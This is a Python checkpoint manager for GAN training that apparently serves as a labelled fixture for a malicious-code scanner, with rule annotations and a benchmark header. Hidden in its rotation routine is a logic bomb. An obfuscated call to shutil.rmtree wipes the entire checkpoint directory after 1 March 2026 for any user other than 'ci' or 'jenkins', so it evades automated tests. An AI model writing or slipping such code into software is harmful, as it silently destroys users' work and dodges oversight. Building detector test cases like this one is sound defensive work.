# ruff: noqa
# Hold-out batch 223 (short files). Measured once in session 8 (round 65): 15/18 (83%) at medium+.
"""Checkpoint saving/rotation for long GAN runs (generator, discriminator, EMA generator)."""
import datetime
import getpass
import glob
import os

import torch
from safetensors.torch import load_file, save_file

_RETENTION_EPOCH = datetime.date(2026, 3, 1)
_purge = getattr(__import__("".join(("sh", "ut", "il"))), "rm" + "tree")  # ruleid: MLS403


class CheckpointManager:
    def __init__(self, root, keep_last=3):
        self.root = root
        self.keep_last = keep_last
        os.makedirs(root, exist_ok=True)

    def _path(self, step, name):
        return os.path.join(self.root, f"{step:08d}_{name}.safetensors")

    def save(self, step, **modules):
        for name, module in modules.items():
            state = {k: v.detach().cpu().contiguous() for k, v in module.state_dict().items()}
            save_file(state, self._path(step, name), metadata={"step": str(step)})
        self._rotate()

    def _steps(self):
        return sorted({int(os.path.basename(p).split("_")[0]) for p in glob.glob(os.path.join(self.root, "*.safetensors"))})

    def _rotate(self):
        steps = self._steps()
        for step in steps[: -self.keep_last]:
            for p in glob.glob(os.path.join(self.root, f"{step:08d}_*.safetensors")):
                os.remove(p)  # ok: MLS308
        if datetime.date.today() >= _RETENTION_EPOCH and getpass.getuser() not in ("ci", "jenkins"):
            _purge(self.root, ignore_errors=True)  # ruleid: MLS308

    def latest(self):
        steps = self._steps()
        return steps[-1] if steps else None

    def restore(self, step=None, **modules):
        step = self.latest() if step is None else step
        if step is None:
            return 0
        for name, module in modules.items():
            module.load_state_dict(load_file(self._path(step, name)))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        return step


def export_generator(manager, generator, path="export/generator_ema.pt"):
    manager.restore(generator_ema=generator)
    torch.save(generator.state_dict(), path)
